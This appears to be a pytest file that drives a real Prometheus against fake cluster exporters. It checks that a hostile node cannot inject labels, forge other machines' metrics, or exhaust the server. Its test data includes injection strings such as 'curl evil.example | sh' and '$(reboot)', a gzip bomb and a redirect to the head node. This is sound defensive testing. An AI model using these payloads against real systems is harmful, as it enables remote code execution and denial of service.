"""A node whose root answers in the place of its exporter: a real Prometheus asks it, with the role's configuration."""

import gzip
import http.server
import json
import re
import socket
import subprocess
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest

from components.roles.monitoring.monitoring.accepted_series import ANY_MACHINE, HEAD_ONLY, metric_relabel_configs
from components.roles.monitoring.monitoring.prometheus import ScrapeJob, scrape_job
from components.roles.monitoring.monitoring.role import rules
from components.roles.role import folder_of, template
from tests.dashboards import every_expression

PROMETHEUS = Path(__file__).parents[4] / ".tailrack/tools/usr/bin/prometheus"  # cli/setup.sh
READERS = "\n".join(path.read_text(encoding="utf-8") for path in folder_of("monitoring").glob("*_figures.py"))
MIB = 2**20
NODES = ("a1", "a2", "a3", "a4")
# What root of a node may write. None of it is the node's business, or more than a word.
EVIL = (
    "$(reboot)",
    "<!channel>",
    "<https://evil.example|fix>",
    "curl evil.example | sh",
    "`reboot`",
    "a;b",
    "x\\nreboot",
)
FORGED = """
up{instance="head",job="node"} 0
up{job="alertmanager"} 0
tailrack_backup_timestamp_seconds 1
tailrack_backup_timestamp_seconds{instance="head",site="rack",job="node"} 1
tailrack_slurm_node_out{node="a2"} 1
tailrack_slurm_gpus{instance="head"} 99
tailrack_share_available_bytes 0
alertmanager_notifications_failed_total{job="alertmanager"} 7
ALERTS{alertname="Urgent",alertstate="firing"} 1
tailrack_gpus{instance="a2"} 0
node_load1{exported_instance="head",text="$(reboot)"} 1
node_load5 1 1000
node_invented_bytes 1
"""
HONEST = """
node_filesystem_avail_bytes{device="/dev/sda1",fstype="ext4",mountpoint="/data/set-1"} 5
node_filesystem_avail_bytes{device="/dev/sdb1",fstype="ext4",mountpoint="/mnt/my disk"} 6
node_cpu_seconds_total{cpu="0",mode="idle"} 7
tailrack_gpu_power_watts{gpu="0",kind="NVIDIA A100-SXM4-80GB"} 70
node_network_up{device="enp1s0f0np0"} 1
"""
SAFE = re.compile(r"[A-Za-z0-9_.:/ -]*")


def hostile() -> str:
    """Every label with every value that is more than a word."""
    labels = ("mountpoint", "device", "kind", "file", "export", "peer", "gpu", "fstype", "collector", "__tmp_odd_name")
    lines = [f'node_load15{{{label}="{evil}"}} 1' for label in labels for evil in EVIL]
    return "\n".join([*lines, *(f'tailrack_gpus{{own="{evil}"}} 3' for evil in EVIL), FORGED, HONEST, ""])


class Exporter(http.server.ThreadingHTTPServer):
    """What answers at a machine's address; `answer` writes the answer."""

    daemon_threads = True
    answer: Callable[[Any], None]
    asked = 0

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Prometheus has gone away in the middle."""


class _Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Exporter)
        self.server.asked += 1
        self.server.answer(self)

    def log_message(self, *_: Any) -> None:
        """Nothing."""


def text(body: str) -> Callable[[Any], None]:
    """An answer in plain text."""

    def answer(handler: Any) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
        handler.end_headers()
        handler.wfile.write(body.encode())

    return answer


def bomb(handler: Any) -> None:
    """256 MiB of comments in 256 KiB."""
    handler.send_response(200)
    handler.send_header("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
    handler.send_header("Content-Encoding", "gzip")
    handler.end_headers()
    block = gzip.compress(b"# " + b"x" * (16 * MIB) + b"\n")
    for _ in range(16):
        handler.wfile.write(block)


def elsewhere(handler: Any) -> None:
    """A way to the head node's own exporter."""
    handler.send_response(302)
    handler.send_header("Location", f"http://127.0.9.1:{handler.server.server_address[1]}/metrics")
    handler.end_headers()


def free_port() -> int:
    """A TCP port that nobody has."""
    with socket.create_server(("127.0.0.1", 0)) as taken:
        return int(taken.getsockname()[1])


def configuration(folder: Path, port: int) -> str:
    """The role's own, asked every second, with the head node at 127.0.9.1 and the nodes at 127.0.9.2 and more."""
    for place, name in enumerate(("head", *NODES), 1):
        target = [{"targets": [f"127.0.9.{place}"], "labels": {"instance": name, "site": "rack"}}]
        (folder / f"{name}.json").write_text(json.dumps(target))
    (folder / "alerts.yml").write_text(rules().replace("@HEAD@", "head"))
    jobs = scrape_job(ScrapeJob("node", port), metric_relabel_configs(), str(folder))
    own = template("monitoring", "prometheus.yml").replace("/etc/tailrack/prometheus/rules.yml", f"{folder}/rules.yml")
    own = re.sub("(interval|timeout): [0-9]+s", r"\1: 1s", own).replace("@ADDRESS@:@PORT@", "127.0.9.9:9")
    return (own + "\n" + jobs).replace("@HEAD@", "head").replace("@CLUSTER@", "test")


class Server:
    """A Prometheus, and what answers it as the head node and as the nodes."""

    def __init__(self, port: int, process: int, head: Exporter, nodes: list[Exporter]) -> None:
        self.port, self.process, self.head, self.nodes = port, process, head, nodes

    def api(self, path: str, **words: str) -> Any:
        """What Prometheus answers."""
        url = f"http://127.0.0.1:{self.port}/api/v1/{path}?{urllib.parse.urlencode(words)}"
        with urllib.request.urlopen(url, timeout=10) as answer:
            return json.load(answer)["data"]

    def series(self, selector: str) -> list[dict[str, str]]:
        """Labels of what is there now."""
        return [each["metric"] for each in self.api("query", query=selector)["result"]]

    def rounds(self) -> None:
        """Wait until every machine was asked three times more, and what the nodes said was read."""
        until = [(each, each.asked + 3) for each in (self.head, *self.nodes)]
        wait(lambda: all(each.asked >= asked for each, asked in until), "all are asked")

    def memory(self) -> int:
        """The most that it has used."""
        (line,) = re.findall(r"VmHWM:\s+(\d+) kB", Path(f"/proc/{self.process}/status").read_text())
        return int(line) * 1024


def wait(look: Callable[[], Any], what: str) -> None:
    """Wait until something is so."""
    end = time.monotonic() + 60
    while time.monotonic() < end:
        with suppress(OSError):
            if look():
                return
        time.sleep(0.1)
    raise AssertionError(f"not within a minute: {what}")


@contextmanager
def exporter(address: str, port: int, answer: Callable[[Any], None]) -> Iterator[Exporter]:
    """What answers at an address."""
    with Exporter((address, port), _Handler) as server:
        server.answer = answer
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        try:
            yield server
        finally:
            server.shutdown()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A Prometheus that asks an honest head node, and the nodes; it begins five seconds after its start."""
    tmp_path = tmp_path_factory.mktemp("prometheus")
    port, exporters_port = free_port(), free_port()
    (tmp_path / "prometheus.yml").write_text(configuration(tmp_path, exporters_port))
    words = [str(PROMETHEUS), f"--config.file={tmp_path}/prometheus.yml", f"--storage.tsdb.path={tmp_path}/data"]
    words += [f"--web.listen-address=127.0.0.1:{port}", "--log.level=error"]
    with ExitStack() as stack:
        head = stack.enter_context(exporter("127.0.9.1", exporters_port, text("tailrack_slurm_gpus 8\nnode_load1 1\n")))
        nodes = [
            stack.enter_context(exporter(f"127.0.9.{place}", exporters_port, text("node_load1 1\n")))
            for place in range(2, 2 + len(NODES))
        ]
        process = stack.enter_context(subprocess.Popen(words, stdin=subprocess.DEVNULL))
        stack.callback(process.terminate)
        made = Server(port, process.pid, head, nodes)
        wait(lambda: len(made.series("node_load1")) == 1 + len(NODES), "all answer")
        yield made


def test_a_hostile_node_can_only_report_known_figures_of_itself(server: Server) -> None:
    server.nodes[0].answer = text(hostile())
    wait(lambda: server.series('node_filesystem_avail_bytes{instance="a1"}'), "its honest figures are there")
    server.rounds()
    found = [each for each in server.series('{__name__!=""}') if each["job"] == "node"]
    mine = [each for each in found if each["instance"] == "a1"]
    assert {each["instance"] for each in found} == {"head", *NODES}
    assert {each["site"] for each in found} == {"rack"}
    assert {value for each in found for value in each.values() if not SAFE.fullmatch(value)} == set()
    generated = {"up", "scrape_duration_seconds", "scrape_samples_scraped", "scrape_series_added"}
    generated |= {"scrape_samples_post_metric_relabeling"}
    assert {each["__name__"] for each in mine} - generated == {
        "node_load1", "node_load5", "node_load15", "tailrack_gpus", "tailrack_gpu_power_watts", "node_network_up",
        "node_cpu_seconds_total", "node_filesystem_avail_bytes",
    }  # fmt: skip
    assert {each["kind"] for each in mine if each["__name__"] == "tailrack_gpu_power_watts"} == {
        "NVIDIA A100-SXM4-80GB"
    }
    mounts = {each["mountpoint"] for each in mine if each["__name__"] == "node_filesystem_avail_bytes"}
    assert "/data/set-1" in mounts
    (odd,) = mounts - {"/data/set-1"}
    assert re.fullmatch(r"odd-name-[0-9]{1,3}", odd)
    assert not {label for each in mine for label in each} & {"own", "text", "exported_instance", "exported_job"}
    # What is of another machine, or of the head node, is the head node's word.
    assert [each["instance"] for each in server.series("tailrack_slurm_gpus")] == ["head"]
    assert server.series("up == 0") == [{"__name__": "up", "instance": "head", "job": "prometheus"}]
    assert server.series("tailrack_backup_timestamp_seconds") == server.series("tailrack_slurm_node_out") == []
    # A time of its own is none.
    assert server.series("node_load5")


def test_an_answer_that_is_too_much_or_leads_elsewhere_is_refused_as_a_whole(server: Server) -> None:
    answers: dict[str, Callable[[Any], None]] = {
        "body size limit exceeded": bomb,
        "server returned HTTP status 302": elsewhere,
        "sample limit exceeded": text("".join(f'node_load1{{cpu="{n}"}} 1\n' for n in range(20001))),
        "label_value_length_limit exceeded": text(f'node_load1{{cpu="{"7" * 2000}"}} 1\n'),
    }
    before = server.memory()
    for node, answer in zip(server.nodes, answers.values(), strict=True):
        node.answer = answer

    def refused() -> bool:
        targets = server.api("targets", state="active")["activeTargets"]
        errors = {each["labels"]["instance"]: each["lastError"] for each in targets}
        return all(said in errors[name] for name, said in zip(NODES, answers, strict=True))

    wait(refused, "all are refused")
    server.rounds()
    wait(lambda: len(server.series('up{job="node"} == 0')) == len(NODES), "the nodes do not answer")
    assert server.series("tailrack_slurm_gpus")
    assert server.memory() - before < 150 * MIB


def test_every_figure_that_a_reader_a_rule_or_a_dashboard_names_is_accepted() -> None:
    readers = {*re.findall(r'"(tailrack_\w+)"', READERS + (folder_of("monitoring") / "figures.py").read_text())}
    assert readers == {name for name in ANY_MACHINE | HEAD_ONLY if name.startswith("tailrack_")}
    named = rules() + "\n".join(asked.expression for asked in every_expression())
    assert {*re.findall(r"\b(?:node|tailrack)_[a-z]\w+_\w+", named)} - {"node_out"} <= ANY_MACHINE | HEAD_ONLY
